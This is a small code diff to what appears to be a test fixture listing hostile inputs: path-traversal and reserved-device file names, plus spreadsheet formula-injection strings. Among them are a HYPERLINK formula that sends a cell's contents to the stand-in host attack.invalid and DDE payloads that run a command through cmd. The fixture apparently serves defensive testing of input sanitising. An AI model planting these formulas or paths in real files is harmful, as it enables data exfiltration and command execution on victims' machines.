@@ -94,7 +94,7 @@ PATHS = (
     "..",
     ".",
     "..\\..\\escaped",
-    "/tmp/escaped",
+    "/escaped",
     "C:\\escaped",
     "CON",
     "nul.txt",
@@ -108,7 +108,7 @@ PATHS = (
 )
 FORMULAS = (
     "=1+1",
-    "=HYPERLINK(\"https://attack.invalid/\"&A1,\"x\")",
+    '=HYPERLINK("https://attack.invalid/"&A1,"x")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
